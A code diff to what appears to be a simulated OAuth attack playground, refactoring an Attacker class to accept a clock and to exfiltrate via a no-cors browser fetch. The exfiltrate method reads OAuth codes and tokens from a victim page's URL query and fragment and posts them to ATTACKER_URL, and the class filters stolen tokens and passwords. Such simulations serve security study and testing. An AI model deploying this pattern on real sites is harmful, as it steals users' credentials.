@@ -13,7 +13,7 @@ from urllib.parse import parse_qs, urlencode, urlsplit
 import httpx
 from flask import Flask, jsonify, redirect, render_template_string, request
 
-from playground.actors.browser import Browser
+from playground.actors.browser import Browser, Clock
 from playground.wire.exchange import Party
 from playground.wire.network import Host, Network
 
@@ -150,14 +150,16 @@ class MixUpAuthorizationServer:
 class Attacker:
     """Mallory: their site, their browser, and a client to use stolen things."""
 
-    def __init__(self, network: Network, issuer: str, api_url: str) -> None:
+    def __init__(
+        self, network: Network, issuer: str, api_url: str, clock: Clock | None = None
+    ) -> None:
         self.site = AttackerSite()
         # Mallory's own authorization server (mix-up), routed by the world.
         self.authorization_server = MixUpAuthorizationServer(self.site, issuer)
         self.network = network
         self.issuer = issuer
         self.api_url = api_url
-        self.browser = Browser(network, party=Party.ATTACKER)
+        self.browser = Browser(network, party=Party.ATTACKER, clock=clock)
         self.http = network.client(Party.ATTACKER, user_agent="EvilBot/6.6")
         self.stolen: dict[str, str] = {}
 
@@ -184,7 +186,7 @@ class Attacker:
         valuable = {"code", "access_token", "refresh_token", "id_token", "password"}
         return [item for item in self.site.loot if item.name in valuable]
 
-    def exfiltrate(self, browser: Browser, *, path: str = "/collect") -> httpx.Response:
+    def exfiltrate(self, browser: Browser, *, path: str = "/collect") -> None:
         """A script of the attacker's running in the victim's page reads the
         address bar (fragment included) and sends it home."""
         parts = urlsplit(browser.address)
@@ -193,7 +195,9 @@ class Attacker:
             for part in (parts.query, parts.fragment)
             for key, values in parse_qs(part).items()
         }
-        return browser.http.post(f"{ATTACKER_URL}{path}", data=params)
+        browser.fetch(
+            f"{ATTACKER_URL}{path}", method="POST", data=params, mode="no-cors"
+        )
 
     def redeem_code(
         self,
